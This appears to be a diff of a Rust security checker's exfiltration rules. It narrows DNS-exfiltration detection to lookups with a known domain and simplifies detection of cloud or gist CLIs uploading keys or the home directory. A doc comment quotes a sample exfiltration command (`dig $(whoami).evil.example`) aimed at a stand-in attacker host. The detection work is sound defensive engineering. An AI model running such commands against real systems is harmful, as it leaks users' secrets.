@@ -1,6 +1,6 @@
 //! exfiltration: secrets or local data sent to another host.
 
-use super::common::{is_local_host, secret_class, word_path};
+use super::common::{is_local_host, secret_class};
 use super::{Check, Example, Rule};
 use crate::effects::{Effect as Fx, Feed, Part, Payload, Sent};
 use crate::normalize::{Call, CallKind, Scope};
@@ -573,11 +573,15 @@ fn metadata_endpoint(call: &Call, _: &Scope) -> Option<String> {
 }
 
 /// A lookup of a name built from data (`dig $(whoami).evil.example`): a send whose payload
-/// is the name (`Payload::Name`), whichever resolver and wrapper make it.
+/// is the name (`Payload::Name`), whichever resolver and wrapper make it. A name that is all
+/// data (`nslookup $DOMAIN`) names no zone of its own: what feeds it is judged like any send's.
 fn dns_exfiltration(call: &Call, _: &Scope) -> Option<String> {
     sends(call).find_map(|sent| {
         sent.items.iter().find_map(|i| match i {
-            Payload::Name { name, domain } => Some(format!(
+            Payload::Name {
+                name,
+                domain: Some(domain),
+            } => Some(format!(
                 "the looked-up name `{name}` carries data to {domain}"
             )),
             _ => None,
@@ -586,54 +590,29 @@ fn dns_exfiltration(call: &Call, _: &Scope) -> Option<String> {
 }
 
 /// Keys, credentials or the home directory among the files a cloud storage, gist or release
-/// CLI uploads (`vocab::UPLOAD_CLIS`): the files of its send; for a CLI that makes no send
-/// effect (`gh`, `gcloud`, `mc`, `b2`, `azcopy`, or one whose endpoint is this machine), the
-/// same vocabulary's sources of its command.
+/// CLI uploads (`vocab::cli_upload`): the files of its send, whichever host it goes to (an
+/// endpoint on this machine may forward what it is given).
 fn secret_upload_cli(call: &Call, scope: &Scope) -> Option<String> {
     let home = scope.home();
-    let judge = |program: &str, written: &str, path: &std::path::Path| {
-        let what = if let Some(class) = secret_class(path, scope) {
-            class.what.to_string()
-        } else if home.starts_with(path) {
-            "the home directory".to_string()
-        } else {
+    call.effects.iter().find_map(|e| {
+        let Fx::Send { sent, .. } = e else {
             return None;
         };
-        Some(format!("`{program}` uploads {written} ({what})"))
-    };
-    let mut sending = Vec::new();
-    for e in &call.effects {
-        if let Fx::Send { sent, .. } = e
-            && is_upload_cli(&sent.program)
-        {
-            sending.extend(sent.command);
-            for f in sent.files() {
-                if let Some(hit) = f
-                    .path
-                    .as_deref()
-                    .and_then(|p| judge(&sent.program, &f.written, p))
-                {
-                    return Some(hit);
-                }
-            }
+        if !is_upload_cli(&sent.program) {
+            return None;
         }
-    }
-    let CallKind::Shell { analysis, .. } = &call.kind else {
-        return None;
-    };
-    analysis
-        .commands
-        .iter()
-        .enumerate()
-        .filter(|(i, _)| !sending.contains(i))
-        .find_map(|(_, c)| {
-            crate::vocab::cli_upload_sources(c)?
-                .into_iter()
-                .find_map(|w| {
-                    let (path, _) = word_path(w, c, scope)?;
-                    judge(&c.program, &w.text, &path)
-                })
+        sent.files().find_map(|f| {
+            let path = f.path.as_deref()?;
+            let what = if let Some(class) = secret_class(path, scope) {
+                class.what.to_string()
+            } else if home.starts_with(path) {
+                "the home directory".to_string()
+            } else {
+                return None;
+            };
+            Some(format!("`{}` uploads {} ({what})", sent.program, f.written))
         })
+    })
 }
 
 /// A directory served over HTTP (`Effect::Serve`) that holds the home directory, is a
